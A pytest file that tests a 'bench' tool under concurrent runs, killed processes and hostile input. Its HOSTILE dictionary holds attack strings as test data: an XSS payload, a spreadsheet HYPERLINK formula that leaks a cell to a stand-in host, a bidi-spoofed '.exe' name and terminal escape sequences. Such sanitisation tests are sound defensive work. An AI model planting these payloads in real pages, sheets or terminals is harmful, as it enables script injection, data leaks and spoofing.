"""Two to four processes on one folder, and hostile texts: the results are those of one process and of plain texts."""

import json
from pathlib import Path

import pytest

from tests.faults.conftest import WHOLE, Forks, Tally
from tests.faults.made import folder_with_data, fresh, outcome, unfinished
from tests.faults.test_kills import RUN

pytestmark = pytest.mark.faults

HOSTILE = {
    "NUL": "a\0b",
    "half a surrogate pair": "\ud800 half \udfff",
    "bidi": "\u202egnp.exe\u2066 \u200f",
    "1 MB": "word " * 200_000,
    "HTML": "</script><img src=x onerror=alert(1)><!--",
    "formula": '=HYPERLINK("http://x.y/?"&A1)',
    "Markdown": "![x](http://x.y/z.png) | `a` **b** <b>",
    "nothing": "",
    "spaces": " \u3000\t\r\n",
    "terminal": "\x1b]0;title\x07\x1b[2J",
    "combining": "e" + "\u0301" * 5000,
    "lines": "a\u2028b\x85c\x0bd\re",
}


@pytest.mark.parametrize("processes", [2, 3, 4] if WHOLE else [3])
@pytest.mark.parametrize(
    "command", [RUN, (*RUN, "--force"), (*RUN, "--no-cache")], ids=["run", "force", "no-cache"]
)
def test_several_processes_on_one_folder_leave_what_one_leaves(
    tmp_path, forks: Forks, command, processes
):
    start, tally = (
        folder_with_data(tmp_path / "start"),
        Tally("2 to 4 `bench run` on one folder at once"),
    )
    alone = fresh(tmp_path / "alone", start)
    assert forks.run(alone, *command).code == 0
    for n in range(2 if WHOLE else 1):
        folder = fresh(tmp_path / "crowd", start)
        ends = forks.together(folder, [list(command)] * processes)
        same = outcome(folder) == outcome(alone) and not unfinished(folder)
        for end in ends:
            good = "equal" if same and end.code == 0 else "differing"
            tally.count("crashed" if end.crashed else good, f"time {n}: {end.said}")
    tally.check()


def test_a_process_that_is_killed_in_a_crowd_takes_nothing_from_the_others(tmp_path, forks: Forks):
    start, tally = (
        folder_with_data(tmp_path / "start"),
        Tally("one of 3 `bench run` on one folder is killed"),
    )
    alone = fresh(tmp_path / "alone", start)
    assert forks.run(alone, *RUN).code == 0
    for n in range(1, 24) if WHOLE else (6, 15):
        folder = fresh(tmp_path / "crowd", start)
        ends = forks.together(folder, [list(RUN)] * 3, die_at=n)
        good = all(end.code == 0 for end in ends[1:]) and outcome(folder) == outcome(alone)
        crashed = any(end.crashed for end in ends[1:])
        tally.count(
            "crashed" if crashed else "equal" if good else "differing",
            f"operation {n}: {differences(outcome(folder), outcome(alone))} {[end.said for end in ends]}",
        )
    tally.check()


def test_hostile_texts_go_through_run_report_and_clusters(tmp_path, forks: Forks):
    tally = Tally("hostile texts go through run, report and clusters")
    pairs = [text for hostile in HOSTILE.values() for text in (hostile, f"plain {hostile}")]
    folder = folder_with_data(tmp_path / "folder", pairs)
    lines = folder / "texts.jsonl"
    lines.write_text("".join(json.dumps({"text": text}) + "\n" for text in pairs))
    commands = [
        RUN,
        (*RUN, "--json", "--force"),
        ("report", "--task", "stsb"),
        (
            "clusters",
            "--texts",
            "texts.jsonl",
            "-m",
            "hashing",
            "--k",
            "2",
            "-i",
            "=1 <b> | \x1b[2J",
        ),
    ]
    for command in commands:
        end = forks.run(folder, *command)
        good = "equal" if end.code == 0 else "told"
        tally.count("crashed" if end.crashed else good, f"{command}: {end.said}")
        assert "\x1b]0;" not in end.said
    check_written(folder)
    tally.check()


def differences(found: dict[str, object], wanted: dict[str, object]) -> dict[str, object]:
    """Return what two outcomes do not share, by the names of the files."""
    names = {*found, *wanted}
    return {n: (found.get(n), wanted.get(n)) for n in names if found.get(n) != wanted.get(n)}


def check_written(folder: Path) -> None:
    """Check that no file holds a formula, a tag or half a surrogate pair."""
    page = (folder / "clusters/texts/clusters.md").read_text(encoding="utf-8")
    assert "<img" not in page.replace("\\<img", "")
    table = (folder / "clusters/texts/texts.csv").read_text(encoding="utf-8")
    assert "\n=HYPERLINK" not in table.replace('"', "")
